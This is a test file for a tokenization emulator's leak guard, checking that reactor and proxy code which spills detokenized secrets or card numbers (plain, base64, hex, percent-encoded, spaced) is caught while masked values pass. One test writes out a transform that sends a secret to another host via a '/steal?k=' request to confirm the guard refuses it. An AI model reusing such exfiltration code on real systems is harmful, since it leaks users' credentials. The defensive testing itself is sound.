import { createServer, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EmulatorEvent } from '../../src/emulator/index.js';
import { createToken, sharedEmulator, type TestEmulator, unique } from '../helpers/emulator.js';
import { selfSigned } from '../helpers/tls.js';
import { eventually } from '../helpers/wait.js';

/**
 * The leak guard against real calls: reactors and proxy transforms that spill what they detokenized,
 * each through one sink in one form, must be caught; the same code with masked values, declared test
 * cards, ids and timestamps must not be. Add a case to LEAKING or CLEAN to extend the corpus: `code`
 * is the reactor's body (`args.secret` is the token's plaintext), `sink` where it should be found.
 */
const SECRET = 'sk_live_51HqJ2-9aB7/cD+e';
const CARD = '4000056655665556';
const TEST_CARD = '4242424242424242';

interface Case {
  name: string;
  /** The reactor's code, given `args.secret` (the detokenized value) and `args.card` (a card token's number). */
  code: string;
  place: string;
  /** The form named (a RegExp where two forms are the same text for this value). */
  form: string | RegExp;
}

const LEAKING: Case[] = [
  { name: 'raw, plain', code: 'return { raw: { echo: args.secret } };', place: 'raw', form: 'plain' },
  {
    name: 'raw, base64 with a prefix',
    code: "return { raw: Buffer.from('user:' + args.secret).toString('base64') };",
    place: 'raw',
    form: 'base64',
  },
  {
    name: 'raw, base64url',
    code: "return { raw: Buffer.from('>' + args.secret).toString('base64url') };",
    place: 'raw',
    // A value whose base64 holds neither + nor / is the same text in base64url: named base64 then.
    form: /^base64/,
  },
  { name: 'raw, hex', code: "return { raw: Buffer.from(args.secret).toString('hex') };", place: 'raw', form: 'hex' },
  {
    name: 'raw, percent',
    code: 'return { raw: "q=" + encodeURIComponent(args.secret) };',
    place: 'raw',
    form: 'percent',
  },
  { name: 'raw, upper case', code: 'return { raw: args.secret.toUpperCase() };', place: 'raw', form: 'case' },
  {
    name: 'raw, card spaced',
    code: "return { raw: args.card.match(/.{4}/g).join(' ') };",
    place: 'raw',
    form: 'card-spaced',
  },
  {
    name: 'raw, card dashed',
    code: "return { raw: args.card.match(/.{4}/g).join('-') };",
    place: 'raw',
    form: 'card-dashed',
  },
  {
    name: 'raw, a card number from no token',
    code: "return { raw: 'card 5555 5555 5555 4444' };",
    place: 'raw',
    form: 'card',
  },
  { name: 'error message', code: "throw new Error('bad key ' + args.secret);", place: 'error', form: 'plain' },
];

const CLEAN: Array<Pick<Case, 'name' | 'code'>> = [
  { name: 'a masked value', code: "return { raw: { key: 'sk_live_' + '*'.repeat(8), card: '************5556' } };" },
  { name: 'a declared test card', code: `return { raw: { card: '${TEST_CARD}' } };` },
  {
    name: 'ids and timestamps',
    code: 'return { raw: { id: "4f1c2a3b-1111-4111-8111-111111111111", at: 1764237600000, when: new Date(0).toISOString() } };',
  },
  { name: 'ordinary JSON', code: 'return { raw: { ok: true, amount: 1999, items: [1, 2, 3], note: "thanks" } };' },
];

const reactorCode = (body: string) => `module.exports = async function (req) { const args = req.args; ${body} };`;

describe.each(['warn', 'fail'] as const)('the leak guard in %s mode', (mode) => {
  const shared = sharedEmulator({ inMemory: true, leakGuard: mode, leakGuardAllow: [TEST_CARD] });
  let emu: TestEmulator;
  let secret: string;
  let card: string;
  beforeAll(async () => {
    emu = shared();
    secret = (await createToken(emu, { type: 'token', data: SECRET })).id;
    card = (await createToken(emu, { type: 'token', data: CARD })).id;
  });

  async function react(code: string) {
    const reactor = await emu.call('POST', '/reactors', {
      body: { name: unique('leaky'), code: reactorCode(code), configuration: {} },
    });
    expect(reactor.status, reactor.text).toBe(201);
    const answer = await emu.call('POST', `/reactors/${reactor.body.id}/react`, {
      key: emu.privateKey,
      body: { args: { secret: `{{ ${secret} }}`, card: `{{ ${card} }}` } },
    });
    return { answer, traceId: String(answer.headers['svc-trace-id'] ?? '') };
  }

  const leaksOf = (events: EmulatorEvent[], traceId: string) =>
    events.filter((event) => event.type === 'leak' && event.traceId === traceId);

  it.each(LEAKING)('catches $name', async ({ code, place, form }) => {
    const { answer, traceId } = await react(code);
    await eventually(() =>
      expect(leaksOf(emu.events, traceId)).toContainEqual(
        expect.objectContaining({
          place,
          form: typeof form === 'string' ? form : expect.stringMatching(form),
          kind: 'reactor',
        }),
      ),
    );
    if (mode === 'fail') {
      expect(answer.status).toBe(500);
      expect(answer.body.type).toBe('urn:svc:problem:leak');
      expect(answer.text).not.toContain(SECRET);
      expect(answer.text).not.toContain(CARD);
    } else {
      expect([200, 500]).toContain(answer.status);
    }
    // Never the value in an event, whatever the mode.
    const told = JSON.stringify(emu.events);
    expect(told).not.toContain(SECRET);
  });

  it.each(CLEAN)('leaves alone $name', async ({ code }) => {
    const { answer, traceId } = await react(code);
    expect(answer.status, answer.text).toBe(200);
    expect(leaksOf(emu.events, traceId)).toEqual([]);
  });

  it('redacts console lines, in every form, and tells of them', async () => {
    const { answer } = await react(
      "console.log('key', args.secret, Buffer.from(args.secret).toString('base64')); return { raw: 1 };",
    );
    expect(answer.status).toBe(200);
    await eventually(() =>
      expect(emu.events.some((event) => event.type === 'console' && event.text.startsWith('key'))).toBe(true),
    );
    const line = emu.events.find((event) => event.type === 'console' && event.text.startsWith('key'));
    expect(line).toMatchObject({ text: `key {{ ${secret} }} {{ ${secret} }}` });
    expect(emu.events).toContainEqual(expect.objectContaining({ type: 'leak', place: 'console', action: 'redacted' }));
  });
});

describe('the leak guard on a proxy', () => {
  const shared = sharedEmulator({ inMemory: true, leakGuard: 'fail' });
  let emu: TestEmulator;
  let destination: Server;
  let destinationUrl: string;
  let other: Server | undefined;
  let otherPort: number;
  let ca: string;
  const received: string[] = [];
  beforeAll(async () => {
    emu = shared();
    // The destination echoes the body it got (plaintext on purpose: the proxy sent it there).
    destination = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk) => (body += chunk));
      request.on('end', () => {
        response.setHeader('content-type', 'application/json');
        response.end(body);
      });
    });
    destinationUrl = await listen(destination);
  });
  afterAll(() => {
    destination.close();
    other?.close();
  });

  async function proxy(body: Record<string, unknown>) {
    const created = await emu.call('POST', '/proxies', {
      body: { name: unique('proxy'), destination_url: destinationUrl, ...body },
    });
    expect(created.status, created.text).toBe(201);
    return created.body as { key: string };
  }

  async function send(key: string, payload: unknown) {
    return emu.call('POST', '/proxy', { key: emu.privateKey, body: payload, headers: { 'SVC-PROXY-KEY': key } });
  }

  it('refuses an answer that hands the plaintext back to the caller (fail mode)', async () => {
    const token = (await createToken(emu, { type: 'token', data: SECRET })).id;
    const { key } = await proxy({});
    const answer = await send(key, { secret: `{{ ${token} }}` });
    expect(answer.status).toBe(500);
    expect(answer.text).not.toContain(SECRET);
    expect(JSON.parse(answer.text).proxy_error.type).toBe('urn:svc:problem:leak');
  });

  it('lets an answer without it through', async () => {
    const token = (await createToken(emu, { type: 'token', data: SECRET })).id;
    const transform = `module.exports = async (req) => ({ body: { ok: true, len: String(req.args.body.length) }, headers: { 'content-type': 'application/json' } });`;
    const { key } = await proxy({ response_transform: { code: transform } });
    const answer = await send(key, { secret: `{{ ${token} }}` });
    expect(answer.status, answer.text).toBe(200);
  });

  it("refuses a transform's request to another host", async () => {
    const tls = await selfSigned();
    ca = tls.cert;
    other = createHttpsServer(tls, (request, response) => {
      received.push(request.url ?? '');
      response.end('ok');
    });
    otherPort = Number(new URL(await listen(other)).port);
    const token = (await createToken(emu, { type: 'token', data: SECRET })).id;
    const transform = [
      "const https = require('https');",
      'module.exports = async (req) => {',
      "  await fetchOut('/steal?k=' + encodeURIComponent(req.args.body.secret), req.configuration.ca);",
      "  return { body: { masked: true }, headers: { 'content-type': 'application/json' } };",
      '};',
      `function fetchOut(path, ca) { return new Promise((resolve) => { const r = https.get({ hostname: '127.0.0.1', port: ${otherPort}, path, ca }, (res) => { res.resume(); res.on('end', resolve); }); r.on('error', () => resolve()); }); }`,
    ].join('\n');
    const { key } = await proxy({ request_transform: { code: transform }, configuration: { ca } });
    await send(key, { secret: `{{ ${token} }}` });
    await eventually(() =>
      expect(emu.events).toContainEqual(
        expect.objectContaining({ type: 'leak', place: 'outbound', action: 'refused' }),
      ),
    );
    expect(received.some((url) => url.includes('sk_live'))).toBe(false);
  });
});

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
